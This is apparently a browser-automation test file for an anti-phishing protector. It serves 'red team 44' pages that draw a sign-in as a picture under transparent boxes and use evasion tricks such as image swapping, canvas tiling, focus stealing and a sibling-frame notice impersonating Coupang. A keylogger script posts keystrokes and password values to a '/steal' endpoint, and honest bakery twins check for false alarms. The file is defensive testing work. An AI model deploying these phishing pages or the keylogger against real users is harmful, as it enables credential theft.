import { readFileSync } from 'node:fs';
import { beforeAll, expect, test } from 'vitest';
import { forEachBrowser, type Session, type Tab } from '../harness';
import { expectNoWarningFor, startReady } from '../page-helpers';
import { first, js, KEYLOGGER, onPage, stolen } from './kit';

/**
 * Red team 44: what red team 43 did not play, by the page's own script. Every picture kit is red team 40's p1 (a
 * sign-in drawn as one picture, transparent boxes over it, no word in markup; the picture reader reads it at the
 * second chance, lib/page/picture-read.ts):
 * - pf: the page focuses the password box itself; the user types without a click;
 * - sw: the <img> blanked (its src swapped to a blank picture) at the press, the sign-in's src put back 300 ms after the
 *   focus;
 * - pc: the same with a <picture>: its <source>'s srcset swapped to the blank picture at the press and back after;
 * - pd2: red team 43's pd (a canvas blanked at the press, redrawn 400 ms later) against a user who types after it;
 * - rc: the password box replaced by a fresh copy at each key (the focus kept);
 * - tl: red team 43's tl (the picture cut by the page's script into 36 canvases of 60×50, no tile holding the name);
 * - sf: the tab's claim (red team 35) in a sibling frame of another origin the top page puts up only after the first
 *   key into the box's frame.
 * The victim here types as a person does: a key, a pause of 1.5 s, the rest.
 * Honest twins: the bakery's own sign-in picture with its box focused by its script (hpf), swapped at the press
 * (hsw) and cut into tiles (htl); the sibling frame's notice a bakery's (hsf).
 */
const fixture = (p: string) => readFileSync(new URL(`../../fixtures/${p}`, import.meta.url));
const PNG = fixture('images/rt40-pixels-login.png');
const BAKERY = fixture('images/rt41-bakery-login.png');
const BLANK = `data:image/svg+xml,${encodeURIComponent('<svg xmlns="http://www.w3.org/2000/svg" width="360" height="300"><rect width="360" height="300" fill="#fff"/></svg>')}`;

const BOXES = `<form onsubmit="return false"><input id="a1" type="text" style="top:87px"><input id="a2" type="password" style="top:159px">
<button style="top:214px;height:42px"></button></form>`;
const STYLE = `.pic{position:relative;width:360px;height:300px;margin:30px auto}
.pic canvas,.pic img,.pic picture,.pic .tiles{position:absolute;left:0;top:0;width:360px;height:300px}
.tiles canvas{position:static;width:60px;height:50px;display:block;float:left}
.pic input,.pic button{position:absolute;left:21px;width:316px;height:36px;border:0;background:transparent;font-size:15px;padding:0 8px}`;
const page = (under: string, script = '') =>
  first(
    `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title></title><style>${STYLE}</style></head><body><div class="pic">${under}${BOXES}</div>
<script>${script}</script></body></html>`,
    KEYLOGGER,
  );
/** at the press: `off()`; 300 ms after the box's focus: `on()` */
const swap = (off: string, on: string) =>
  `(function () { var pw = document.getElementById('a2');
document.addEventListener('pointerdown', function () { ${off} }, true);
pw.addEventListener('focus', function () { setTimeout(function () { ${on} }, 300); }); })();`;

const PICS: Record<string, (src: string) => string> = {
  pf: (src) => page(`<img src="${src}">`, `document.getElementById('a2').focus();`),
  sw: (src) =>
    page(
      `<img id="im" src="${src}">`,
      swap(
        `document.getElementById('im').src = ${js(BLANK)};`,
        `document.getElementById('im').src = ${js(src)};`,
      ),
    ),
  pc: (src) =>
    page(
      `<picture><source id="so" srcset="${src}"><img src="${src}"></picture>`,
      swap(
        `document.getElementById('so').srcset = ${js(BLANK)};`,
        `document.getElementById('so').srcset = ${js(src)};`,
      ),
    ),
  pd2: (src) =>
    page(
      '<canvas width="360" height="300"></canvas>',
      `(function () { var c = document.querySelector('.pic canvas'), g = c.getContext('2d'), im = new Image();
function draw() { g.drawImage(im, 0, 0); }
im.onload = draw; im.src = ${js(src)};
document.addEventListener('pointerdown', function () { g.fillStyle = '#fff'; g.fillRect(0, 0, 360, 300); setTimeout(draw, 400); }, true); })();`,
    ),
  tl: (src) =>
    page(
      `<div class="tiles">${'<canvas width="60" height="50"></canvas>'.repeat(36)}</div>`,
      `(function () { var im = new Image(); im.onload = function () { document.querySelectorAll('.tiles canvas').forEach(function (c, i) {
var x = (i % 6) * 60, y = Math.floor(i / 6) * 50; c.getContext('2d').drawImage(im, x, y, 60, 50, 0, 0, 60, 50); }); }; im.src = ${js(src)}; })();`,
    ),
  rc: (src) =>
    page(
      `<img src="${src}">`,
      `document.addEventListener('keydown', function (e) { var pw = document.getElementById('a2'); if (e.target !== pw) return;
setTimeout(function () { var n = pw.cloneNode(true); n.value = pw.value; pw.replaceWith(n); n.focus(); }, 0); }, true);`,
    ),
};
/** Won and left, with the reason (docs/threat-model.md, red team 44) */
const LEFT: Record<string, string> = {
  sw: 'the first key, typed while the page shows a blank picture, reaches it (then warned): the page claimed nothing then',
  pc: 'the first key, typed while the page shows a blank picture, reaches it (then warned): the page claimed nothing then',
};

const pause = (ms: number) => new Promise((r) => setTimeout(r, ms));

/**
 * A person: a click into the box (unless `click` is false: the page focused it), a key, 1.5 s, the other six. With
 * `look`, a pause between the click and the first key as long as that (a person looks before typing).
 */
async function person(s: Session, tab: Tab, box: string, click = true, look = 0): Promise<void> {
  await pause(5_000);
  if (!(await onPage(s, tab))) return;
  if (click) {
    const at = await tab.evaluate((sel: string) => {
      const r = document.querySelector(sel)!.getBoundingClientRect();
      return { x: r.left + r.width / 2, y: r.top + r.height / 2 };
    }, box);
    await tab.mouseClick(at.x, at.y);
  }
  await pause(look);
  await tab.keyboard('h').catch(() => undefined);
  await pause(1_500);
  await tab.keyboard('unter2').catch(() => undefined);
  await pause(3_000);
}

/** the tab's claim: the sibling frame's page, the box's frame, the top page that adds the first at the first key */
const LOGGER = `<script>
window.steal = function (kind, data) {
  try { fetch('/steal?' + kind + '=' + encodeURIComponent(String(data).slice(0, 300)), { method: 'POST', keepalive: true }); } catch (e) {}
};
window.addEventListener('keydown', function (e) { if (e.isTrusted) { steal('key', e.key); parent.postMessage('typed', '*'); } }, true);
</script>`;
const frameDoc = (title: string, body: string) =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>${title}</title>${LOGGER}</head><body style="margin:0">${body}</body></html>`;
const CLAIM =
  '<h1>회원 확인</h1><p>쿠팡 회원정보 유출 확인 전담 창구입니다. 본인 확인을 위해 비밀번호를 입력해 주세요.</p>';
const NOTICE = '<h1>회원 확인</h1><p>달빛 베이커리 회원 전용 주문 창구입니다. 비밀번호를 입력해 주세요.</p>';
const VALUE = `<script>var last = ''; setInterval(function () { var v = document.getElementById('pw').value;
if (v !== last) { last = v; steal('value', v); } }, 200);</script>`;

forEachBrowser('hostile page: red team 44, what changes between the focus and the keys', (ctx) => {
  let s: Session;
  beforeAll(async () => {
    s = await startReady(ctx);
  });
  const serve = (host: string, html: string) => {
    ctx.server.page(host, '/i/bg.png', PNG, 'image/png');
    ctx.server.page(host, '/i/bakery.png', BAKERY, 'image/png');
    ctx.server.page(host, '/login', html);
  };

  for (const [name, make] of Object.entries(PICS))
    test.skipIf(name in LEFT)(`${name}: no key reaches the kit`, async () => {
      const host = `rt44-${name}.example.test`;
      serve(host, make('/i/bg.png'));
      const tab = await s.newTab(ctx.server.url(host, '/login'));
      await tab.bringToFront();
      await person(s, tab, '#a2', name !== 'pf');
      const got = stolen(ctx.server, host, 'key').length;
      const warned = !(await onPage(s, tab));
      await tab.close();
      expect({ got, warned }).toEqual({ got: 0, warned: true });
    });

  for (const name of ['pf', 'sw', 'tl'])
    test(`h${name}: honest, stays clean and takes the typing`, async () => {
      const host = `rt44-h${name}.example.test`;
      serve(host, PICS[name]!('/i/bakery.png'));
      const tab = await s.newTab(ctx.server.url(host, '/login'));
      await tab.bringToFront();
      await expectNoWarningFor(tab, 3_000);
      await person(s, tab, '#a2', name !== 'pf');
      expect(await tab.evaluate(() => (document.getElementById('a2') as HTMLInputElement).value)).toBe(
        'hunter2',
      );
      await expectNoWarningFor(tab, 1_000);
      await tab.close();
    });

  const claimPage = (name: string, notice: string) => {
    const host = `rt44-${name}.example.test`;
    const boxHost = `rt44-${name}-box.example.test`;
    const claimHost = `rt44-${name}-notice.example.test`;
    ctx.server.page(claimHost, '/c', frameDoc('안내', notice));
    ctx.server.page(
      boxHost,
      '/f',
      frameDoc(
        '확인',
        '<input id="pw" type="password" name="pw" style="width:100%;height:56px;box-sizing:border-box">' +
          VALUE,
      ),
    );
    ctx.server.page(
      host,
      '/p',
      frameDoc(
        '회원 확인',
        `<div id="top"></div><iframe id="box" src=${js(ctx.server.url(boxHost, '/f'))} style="display:block;width:420px;height:60px;border:0"></iframe>
<script>window.addEventListener('message', function (e) { if (e.data !== 'typed' || document.getElementById('claim')) return;
var f = document.createElement('iframe'); f.id = 'claim'; f.src = ${js(ctx.server.url(claimHost, '/c'))};
f.style.cssText = 'display:block;width:600px;height:160px;border:0'; document.getElementById('top').append(f); });</script>`,
      ),
    );
    return { host, boxHost };
  };

  // (red team 45: the frames being judged are waited for, and the box's frame told so: lib/page/judging-frames.ts)
  test('sf: the claim put up in a sibling frame after the first key: no later key reaches the kit', async () => {
    const { host, boxHost } = claimPage('sf', CLAIM);
    const tab = await s.newTab(ctx.server.url(host, '/p'));
    await tab.bringToFront();
    await person(s, tab, '#box', true, 500);
    const got = stolen(ctx.server, boxHost, 'key').length;
    const warned = !(await onPage(s, tab));
    await tab.close();
    // (the first key went where no claim was shown: it is the page's; what follows the claim is not)
    expect({ after: Math.max(0, got - 1), warned }).toEqual({ after: 0, warned: true });
  });

  test('hsf: honest, the notice put up after the first key: stays clean and takes the typing', async () => {
    const { host, boxHost } = claimPage('hsf', NOTICE);
    const tab = await s.newTab(ctx.server.url(host, '/p'));
    await tab.bringToFront();
    await person(s, tab, '#box', true, 500);
    await expectNoWarningFor(tab, 1_000);
    expect(stolen(ctx.server, boxHost, 'value').at(-1)?.path).toBe('/steal?value=hunter2');
    await tab.close();
  });
});
